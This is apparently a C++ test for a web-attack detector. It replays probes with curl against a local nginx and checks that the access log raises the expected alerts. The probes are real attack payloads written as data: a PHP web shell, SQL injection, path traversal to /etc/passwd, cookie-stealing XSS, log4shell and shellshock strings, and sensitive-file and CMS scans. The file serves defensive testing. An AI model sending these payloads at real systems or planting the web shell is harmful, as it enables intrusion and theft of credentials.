// Probes replayed with curl against a real nginx (Debian's, started by the test) and detected
// from nginx's own access log. nginx trusts X-Forwarded-For from loopback (the realip module,
// as behind a load balancer), so each probe logs under an address of its own and the test can
// tell which rules each one raised.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <map>
#include <set>

#include "nginx_server.h"
#include "web_detect.h"

using namespace bulwark;

namespace {

constexpr const char* kServer = R"(
  server {
    listen 127.0.0.1:{{port0}};
    root {{root}};
    set_real_ip_from 127.0.0.1;
    real_ip_header X-Forwarded-For;
    location = /wp-login.php { return 404; }
    location /administrator/ { return 404; }
  }
)";

constexpr const char* kBrowser =
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

struct Probe {
  std::string ip;
  std::string userAgent;
  std::vector<std::string> targets;  // as sent, --path-as-is
  std::set<std::string> expected;    // rules whose alerts must name ip
};

int curl(int port, const std::string& ip, const std::string& userAgent, const std::string& target) {
  auto r = test::runShell("curl -s -o /dev/null -w '%{http_code}' --max-time 10 --path-as-is -A " +
                          test::shellQuote(userAgent) + " -H " +
                          test::shellQuote("X-Forwarded-For: " + ip) + " " +
                          test::shellQuote("http://127.0.0.1:" + std::to_string(port) + target));
  return r.exitCode == 0 ? std::atoi(r.out.c_str()) : -1;
}

}  // namespace

TEST_CASE("probes replayed against a real nginx are detected from its own access log") {
  if (test::findProgram("curl").empty()) {
    BULWARK_SKIP("curl is not installed (scripts/install-deps installs it)");
    return;
  }
  test::NginxServer nginx(kServer, 1);
  if (!nginx.whyUnavailable().empty()) {
    BULWARK_SKIP("real nginx test: " << nginx.whyUnavailable());
    return;
  }
  nginx.serve("index.html", "<html><body>shop</body></html>\n");
  nginx.serve("uploads/avatar-17.php", "<?php system($_GET['c']); ?>\n");  // served as it is

  std::vector<std::string> flood;
  for (int i = 0; i < 60; ++i)
    flood.push_back("/" + std::to_string(i * 7919 % 100003) + ".html");
  std::vector<Probe> probes = {
      {"198.51.100.1",
       "sqlmap/1.7.2#stable (https://sqlmap.org)",
       {"/index.html?id=1"},
       {"web.scanner.user-agent"}},
      {"198.51.100.2",
       "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
       {"/"},
       {"web.scanner.user-agent"}},
      {"198.51.100.3",
       kBrowser,
       {"/index.html?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"},
       {"web.sql-injection"}},
      {"198.51.100.4",
       kBrowser,
       {"/index.html?file=..%2f..%2f..%2f..%2fetc%2fpasswd"},
       {"web.path-traversal"}},
      {"198.51.100.5",
       kBrowser,
       {"/index.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
       {"web.xss"}},
      {"198.51.100.6", "${jndi:ldap://198.51.100.6:1389/Exploit}", {"/"}, {"web.rce.log4shell"}},
      {"198.51.100.7",
       "() { :; }; /bin/bash -c 'cat /etc/passwd'",
       {"/cgi-bin/status"},
       {"web.rce.shellshock"}},
      {"198.51.100.8", kBrowser, {"/.env", "/.git/config"}, {"web.probe.sensitive-file"}},
      {"198.51.100.9",
       kBrowser,
       {"/wp-login.php", "/wp-admin/install.php", "/wp-content/plugins/akismet/readme.txt",
        "/xmlrpc.php", "/administrator/manifests/files/joomla.xml", "/CHANGELOG.txt",
        "/wp-includes/wlwmanifest.xml"},
       {"web.cms.scan"}},
      {"198.51.100.10", kBrowser, {"/uploads/avatar-17.php?c=id"}, {"web.webshell.upload-path"}},
      {"198.51.100.11", kBrowser, flood, {"web.scan.404-flood"}},
      {"198.51.100.50", kBrowser, {"/", "/index.html", "/index.html?q=red+shoes"}, {}},
  };
  std::map<std::string, std::vector<int>> statuses;
  for (const auto& p : probes)
    for (const auto& t : p.targets)
      statuses[p.ip].push_back(curl(nginx.port(0), p.ip, p.userAgent, t));
  CHECK(statuses["198.51.100.10"] == std::vector<int>{200});  // the planted script answered
  CHECK(statuses["198.51.100.50"] == (std::vector<int>{200, 200, 200}));

  test::TempDir dir;
  INFO(test::readFile(nginx.accessLog()));
  test::WebDetection d = test::detectWeb(dir, {"nginx:" + nginx.accessLog().string()});
  CHECK_THAT(d.err, Catch::Contains(" 0 unparsed"));
  for (const auto& p : probes) {
    INFO(p.ip << " " << p.targets.front());
    std::set<std::string> raised = test::rulesNaming(d.alerts, p.ip);
    for (const auto& rule : p.expected) {
      INFO(rule);
      CHECK(raised.count(rule) == 1);
    }
    if (p.expected.empty()) CHECK(raised.empty());
  }
  // nginx logged every probe under its forwarded address (one it refused would log 127.0.0.1).
  CHECK(test::rulesNaming(d.alerts, "127.0.0.1").empty());
}
